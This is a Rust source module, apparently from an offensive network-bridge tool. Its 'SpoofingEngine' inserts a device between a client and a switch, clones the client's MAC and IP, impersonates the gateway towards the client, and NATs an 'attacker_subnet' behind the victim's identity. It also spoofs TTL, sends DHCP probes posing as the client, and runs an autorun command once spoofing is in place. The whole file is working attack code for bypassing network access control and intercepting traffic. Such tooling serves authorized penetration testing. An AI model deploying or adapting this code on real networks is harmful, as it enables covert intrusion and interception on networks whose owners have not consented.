use super::events::{BridgeUpdate, DiscoveryEvent};
use super::neighbors::{NeighborTable, Observation};
use super::topology::{Signal, TopologyState};
use crate::bridge::{BridgePortResolver, InterfaceIdentityCache};
use crate::config::{ResolutionPolicy, Settings};
use crate::exec::{Action, CommandRunner, Executor, Invocation};
use crate::net::{Ipv4Cidr, MacAddr, PRIVATE_BLOCKS};
use crate::rules::{Intent, Layer, Protocol, RouteDest};
use crate::Result;
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use tokio::sync::broadcast;
use tracing::{debug, info, warn};

/// What the engine did with an event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Handled {
    /// The reaction ran
    Applied,
    /// Redelivery of a latched or already known fact
    Ignored,
}

/// Turns topology facts into spoofing rules.
pub struct SpoofingEngine {
    settings: Arc<Settings>,
    identities: InterfaceIdentityCache,
    resolver: BridgePortResolver,
    topology: TopologyState,
    neighbors: NeighborTable,
    /// Gateway IP whose client-bound SNAT rules wait for the client IP
    deferred_gateway_ip: Option<Ipv4Addr>,
    updates: broadcast::Sender<BridgeUpdate>,
}

impl SpoofingEngine {
    pub fn new(
        settings: Arc<Settings>,
        identities: InterfaceIdentityCache,
        updates: broadcast::Sender<BridgeUpdate>,
    ) -> Self {
        let resolver = BridgePortResolver::new(settings.bridge.clone(), settings.resolution);
        Self {
            settings,
            identities,
            resolver,
            topology: TopologyState::new(),
            neighbors: NeighborTable::new(),
            deferred_gateway_ip: None,
            updates,
        }
    }

    pub fn topology(&self) -> &TopologyState {
        &self.topology
    }

    pub fn neighbors(&self) -> &NeighborTable {
        &self.neighbors
    }

    /// Whether client-bound SNAT rules are waiting for the client IP.
    pub fn has_deferred_rules(&self) -> bool {
        self.deferred_gateway_ip.is_some()
    }

    /// React to one event.
    ///
    /// Latched reactions consume their latch before running, so a failure
    /// part-way is not retried on redelivery. Under
    /// [`ResolutionPolicy::Always`] a `new_arp` carrying the gateway or client
    /// MAC also re-checks which member that MAC sits behind.
    pub async fn handle<R: CommandRunner>(
        &mut self,
        exec: &Executor<R>,
        event: DiscoveryEvent,
    ) -> Result<Handled> {
        debug!(event = event.name(), "discovery event");

        let mut moved = false;
        let accepted = match &event {
            DiscoveryEvent::NewArp { ip, mac } => match self.neighbors.classify(*ip, *mac) {
                Observation::Unchanged => {
                    self.neighbors.touch(*ip);
                    let followed = self.follow_member_moves(exec, *mac).await?;
                    return Ok(if followed {
                        Handled::Applied
                    } else {
                        Handled::Ignored
                    });
                }
                Observation::Moved { previous } => {
                    warn!(ip = %ip, previous = %previous, mac = %mac, "neighbor changed MAC");
                    moved = true;
                    true
                }
                Observation::New => true,
            },
            DiscoveryEvent::DnsUpdate { .. } => true,
            DiscoveryEvent::ClientMapping { .. } => self.claim(Signal::ClientMapping, &event),
            DiscoveryEvent::GatewayMapping { .. } => self.claim(Signal::GatewayMapping, &event),
            DiscoveryEvent::ClientTtl { .. } => self.claim(Signal::ClientTtl, &event),
        };
        if !accepted {
            return Ok(Handled::Ignored);
        }

        // No receivers is fine.
        let _ = self.updates.send(BridgeUpdate::from(&event));

        match event {
            DiscoveryEvent::NewArp { ip, mac } => {
                self.new_neighbor(exec, ip, mac, moved).await?;
                self.follow_member_moves(exec, mac).await?;
            }
            DiscoveryEvent::DnsUpdate { servers } => self.update_dns(exec, &servers).await?,
            DiscoveryEvent::ClientMapping {
                client_mac,
                client_ip,
                gateway_mac,
            } => {
                self.spoof_client_to_gateway(exec, client_mac, client_ip, gateway_mac)
                    .await?
            }
            DiscoveryEvent::GatewayMapping {
                gateway_mac,
                gateway_ip,
                client_mac,
            } => {
                self.spoof_gateway_to_client(exec, gateway_mac, gateway_ip, client_mac)
                    .await?
            }
            DiscoveryEvent::ClientTtl { client_ttl } => self.spoof_ttl(exec, client_ttl).await?,
        }
        Ok(Handled::Applied)
    }

    fn claim(&mut self, signal: Signal, event: &DiscoveryEvent) -> bool {
        let claimed = self.topology.claim(signal);
        if !claimed {
            warn!(event = event.name(), "already handled this session, ignoring");
        }
        claimed
    }

    /// Route a neighbor through the bridge. A neighbor whose MAC changed
    /// already has kernel entries, so those are replaced.
    async fn new_neighbor<R: CommandRunner>(
        &mut self,
        exec: &Executor<R>,
        ip: Ipv4Addr,
        mac: MacAddr,
        moved: bool,
    ) -> Result<()> {
        let dev = self.settings.bridge.clone();
        let dest = RouteDest::Prefix(Ipv4Cidr::host(ip));
        let (neighbor, route) = if moved {
            (
                Intent::ReplaceNeighbor { ip, mac, dev: dev.clone() },
                Intent::ReplaceRoute { dest, via: None, dev },
            )
        } else {
            (
                Intent::AddNeighbor { ip, mac, dev: dev.clone() },
                Intent::AddRoute { dest, via: None, dev },
            )
        };
        exec.apply("Update arp entries for new neighbor", neighbor).await?;
        exec.apply("Update routes for new neighbor", route).await?;
        self.neighbors.record(ip, mac);
        info!(ip = %ip, mac = %mac, moved, "neighbor routed");
        Ok(())
    }

    async fn update_dns<R: CommandRunner>(
        &mut self,
        exec: &Executor<R>,
        servers: &[IpAddr],
    ) -> Result<()> {
        let contents: String = servers
            .iter()
            .map(|server| format!("nameserver {}\n", server))
            .collect();
        exec.apply(
            "Replace DNS servers",
            Intent::WriteFile {
                path: self.settings.resolv_conf.clone(),
                contents,
            },
        )
        .await?;
        info!(count = servers.len(), "resolver configuration updated");
        Ok(())
    }

    /// Member interface behind `mac` together with that member's own MAC.
    async fn member_for<R: CommandRunner>(
        &mut self,
        exec: &Executor<R>,
        mac: MacAddr,
    ) -> Result<Option<(String, Option<MacAddr>)>> {
        let Some(iface) = self.resolver.resolve(exec, mac).await? else {
            return Ok(None);
        };
        let member_mac = self.identities.get(&iface);
        if member_mac.is_none() {
            warn!(iface = %iface, "no hardware address cached for member");
        }
        Ok(Some((iface, member_mac)))
    }

    async fn spoof_client_to_gateway<R: CommandRunner>(
        &mut self,
        exec: &Executor<R>,
        client_mac: MacAddr,
        client_ip: Ipv4Addr,
        gateway_mac: MacAddr,
    ) -> Result<()> {
        let s = Arc::clone(&self.settings);
        let gateway_side = self.member_for(exec, gateway_mac).await?;

        match &gateway_side {
            Some((iface, member_mac)) => {
                self.rewrite_towards_switch(exec, iface, *member_mac, client_mac)
                    .await?
            }
            None => warn!(
                gateway_mac = %gateway_mac,
                "gateway side not resolvable, skipping MAC rewrite towards the switch"
            ),
        }

        for protocol in Protocol::ALL {
            for source in [s.attacker_subnet, s.bridge_apipa_subnet] {
                exec.apply(
                    &format!(
                        "Tag {} traffic from {} towards the switch with the client's IP",
                        protocol.as_str(),
                        source
                    ),
                    Intent::Snat {
                        out_iface: s.bridge.clone(),
                        source,
                        destination: None,
                        protocol,
                        to: client_ip,
                        ports: s.ephemeral_ports,
                    },
                )
                .await?;
            }
        }

        exec.apply(
            "Map the virtual gateway to the real gateway's MAC",
            Intent::AddNeighbor {
                ip: s.virtual_gateway_ip,
                mac: gateway_mac,
                dev: s.bridge.clone(),
            },
        )
        .await?;

        if s.replace_default_route {
            exec.apply(
                "Use the virtual gateway as default route",
                Intent::AddRoute {
                    dest: RouteDest::Default,
                    via: Some(s.virtual_gateway_ip),
                    dev: s.bridge.clone(),
                },
            )
            .await?;
        } else {
            for block in PRIVATE_BLOCKS {
                exec.apply(
                    &format!("Add route to the private range {}", block),
                    Intent::AddRoute {
                        dest: RouteDest::Prefix(block),
                        via: Some(s.virtual_gateway_ip),
                        dev: s.bridge.clone(),
                    },
                )
                .await?;
            }
        }

        if let Some((iface, _)) = &gateway_side {
            exec.apply(
                "Open OUTPUT towards the switch on the gateway-side member",
                Intent::AllowOutput {
                    layer: Layer::Frame,
                    iface: iface.clone(),
                },
            )
            .await?;
        }
        exec.apply(
            "Allow traffic from the bridge's own address out of the bridge",
            Intent::AllowOutputFrom {
                iface: s.bridge.clone(),
                source: s.bridge_apipa_ip,
            },
        )
        .await?;

        if let Some(command) = &s.autorun_command {
            if let Some((program, args)) = command.split_first() {
                exec.execute(
                    &Invocation::new(
                        "Autorun command configured",
                        Action::exec(program.clone(), args.iter().cloned()),
                    )
                    .or_noop(),
                )
                .await?;
            }
        }

        self.topology.learn_client_mac(client_mac);
        self.topology.learn_client_ip(client_ip);
        self.topology.learn_gateway_mac(gateway_mac);
        if let Some((iface, _)) = gateway_side {
            self.topology.gateway_side_interface = Some(iface);
        }
        info!(client_ip = %client_ip, client_mac = %client_mac, "client identity spoofed towards gateway");

        if let Some(gateway_ip) = self.deferred_gateway_ip.take() {
            info!("installing deferred client-bound rules");
            self.snat_towards_client(exec, client_ip, gateway_ip).await?;
        }
        Ok(())
    }

    async fn spoof_gateway_to_client<R: CommandRunner>(
        &mut self,
        exec: &Executor<R>,
        gateway_mac: MacAddr,
        gateway_ip: Ipv4Addr,
        client_mac: MacAddr,
    ) -> Result<()> {
        let client_side = self.member_for(exec, client_mac).await?;

        match &client_side {
            Some((iface, member_mac)) => {
                self.rewrite_towards_client(exec, iface, *member_mac, gateway_mac)
                    .await?
            }
            None => warn!(
                client_mac = %client_mac,
                "client side not resolvable, skipping MAC rewrite towards the client"
            ),
        }

        match self.topology.client_ip {
            Some(client_ip) => self.snat_towards_client(exec, client_ip, gateway_ip).await?,
            None => {
                info!(gateway_ip = %gateway_ip, "client IP unknown, deferring client-bound rules");
                self.deferred_gateway_ip = Some(gateway_ip);
            }
        }

        if let Some((iface, _)) = &client_side {
            exec.apply(
                "Open OUTPUT towards the client on the client-side member",
                Intent::AllowOutput {
                    layer: Layer::Frame,
                    iface: iface.clone(),
                },
            )
            .await?;
        }

        self.topology.learn_gateway_mac(gateway_mac);
        self.topology.learn_gateway_ip(gateway_ip);
        self.topology.learn_client_mac(client_mac);
        if let Some((iface, _)) = client_side {
            self.topology.client_side_interface = Some(iface);
        }
        info!(gateway_ip = %gateway_ip, gateway_mac = %gateway_mac, "gateway identity spoofed towards client");
        Ok(())
    }

    async fn rewrite_towards_switch<R: CommandRunner>(
        &self,
        exec: &Executor<R>,
        iface: &str,
        member_mac: Option<MacAddr>,
        client_mac: MacAddr,
    ) -> Result<()> {
        if let Some(member_mac) = member_mac {
            exec.apply(
                "Tag all traffic leaving the bridge towards the switch with the client's MAC",
                Intent::FrameSnat {
                    source: member_mac,
                    out_iface: iface.to_string(),
                    to: client_mac,
                },
            )
            .await?;
        }
        exec.apply(
            "Tag traffic sourced from the bridge MAC towards the switch with the client's MAC",
            Intent::FrameSnat {
                source: self.settings.bridge_mac,
                out_iface: iface.to_string(),
                to: client_mac,
            },
        )
        .await
    }

    async fn rewrite_towards_client<R: CommandRunner>(
        &self,
        exec: &Executor<R>,
        iface: &str,
        member_mac: Option<MacAddr>,
        gateway_mac: MacAddr,
    ) -> Result<()> {
        let Some(member_mac) = member_mac else {
            return Ok(());
        };
        exec.apply(
            "Tag all traffic from the bridge towards the client with the gateway's MAC",
            Intent::FrameSnat {
                source: member_mac,
                out_iface: iface.to_string(),
                to: gateway_mac,
            },
        )
        .await
    }

    /// Under [`ResolutionPolicy::Always`], look the gateway or client MAC up
    /// again and follow it to a new member. Rules for the new member are
    /// appended; the old ones stay.
    ///
    /// Returns `true` if a side moved.
    async fn follow_member_moves<R: CommandRunner>(
        &mut self,
        exec: &Executor<R>,
        mac: MacAddr,
    ) -> Result<bool> {
        if self.resolver.policy() != ResolutionPolicy::Always {
            return Ok(false);
        }
        let topo = &self.topology;
        let gateway_side = match (&topo.gateway_side_interface, topo.client_mac) {
            (Some(current), Some(client_mac)) if topo.gateway_mac == Some(mac) => {
                Some((current.clone(), client_mac))
            }
            _ => None,
        };
        let client_side = match (&topo.client_side_interface, topo.gateway_mac) {
            (Some(current), Some(gateway_mac)) if topo.client_mac == Some(mac) => {
                Some((current.clone(), gateway_mac))
            }
            _ => None,
        };
        if gateway_side.is_none() && client_side.is_none() {
            return Ok(false);
        }

        let Some((iface, member_mac)) = self.member_for(exec, mac).await? else {
            return Ok(false);
        };
        let mut moved = false;

        if let Some((current, client_mac)) = gateway_side {
            if iface != current {
                info!(mac = %mac, from = %current, to = %iface, "gateway moved to another member");
                self.rewrite_towards_switch(exec, &iface, member_mac, client_mac)
                    .await?;
                self.allow_frames_out(exec, &iface).await?;
                self.topology.gateway_side_interface = Some(iface.clone());
                moved = true;
            }
        }
        if let Some((current, gateway_mac)) = client_side {
            if iface != current {
                info!(mac = %mac, from = %current, to = %iface, "client moved to another member");
                self.rewrite_towards_client(exec, &iface, member_mac, gateway_mac)
                    .await?;
                self.allow_frames_out(exec, &iface).await?;
                self.topology.client_side_interface = Some(iface);
                moved = true;
            }
        }
        Ok(moved)
    }

    async fn allow_frames_out<R: CommandRunner>(&self, exec: &Executor<R>, iface: &str) -> Result<()> {
        exec.apply(
            &format!("Open OUTPUT on member {}", iface),
            Intent::AllowOutput {
                layer: Layer::Frame,
                iface: iface.to_string(),
            },
        )
        .await
    }

    async fn snat_towards_client<R: CommandRunner>(
        &self,
        exec: &Executor<R>,
        client_ip: Ipv4Addr,
        gateway_ip: Ipv4Addr,
    ) -> Result<()> {
        let s = &self.settings;
        for protocol in Protocol::ALL {
            for source in [s.bridge_apipa_subnet, s.attacker_subnet] {
                exec.apply(
                    &format!(
                        "Tag {} traffic from {} towards the client with the gateway's IP",
                        protocol.as_str(),
                        source
                    ),
                    Intent::Snat {
                        out_iface: s.bridge.clone(),
                        source,
                        destination: Some(client_ip),
                        protocol,
                        to: gateway_ip,
                        ports: s.ephemeral_ports,
                    },
                )
                .await?;
            }
        }
        Ok(())
    }

    async fn spoof_ttl<R: CommandRunner>(&mut self, exec: &Executor<R>, ttl: u8) -> Result<()> {
        exec.apply(
            "Spoof client TTL",
            Intent::SetTtl {
                out_iface: self.settings.bridge.clone(),
                ttl,
            },
        )
        .await?;
        self.topology.learn_client_ttl(ttl);
        info!(ttl, "client TTL spoofed");
        Ok(())
    }

    /// Route everything through the virtual gateway.
    pub async fn enable_default_route<R: CommandRunner>(&self, exec: &Executor<R>) -> Result<()> {
        exec.apply_or_noop(
            "Clear any existing default route",
            Intent::DeleteRoute {
                selector: vec!["default".to_string()],
            },
        )
        .await;
        exec.apply(
            "Add the bridge as default route to allow Internet access",
            Intent::AddRoute {
                dest: RouteDest::Default,
                via: Some(self.settings.virtual_gateway_ip),
                dev: self.settings.bridge.clone(),
            },
        )
        .await
    }

    /// Send a DHCP discover while posing as the client.
    ///
    /// Returns `false` without running anything if the client is not yet
    /// known.
    pub async fn send_discovery_probe<R: CommandRunner>(&self, exec: &Executor<R>) -> Result<bool> {
        let Some((client_mac, client_ip)) = self.topology.client_identity() else {
            info!("client identity unknown, not probing");
            return Ok(false);
        };
        exec.run(
            "Send DHCP probe while spoofing the client",
            Action::exec(
                self.settings.probe_tool.to_string_lossy().into_owned(),
                [
                    self.settings.bridge.clone(),
                    client_mac.to_string(),
                    client_ip.to_string(),
                ],
            ),
        )
        .await?;
        Ok(true)
    }
}
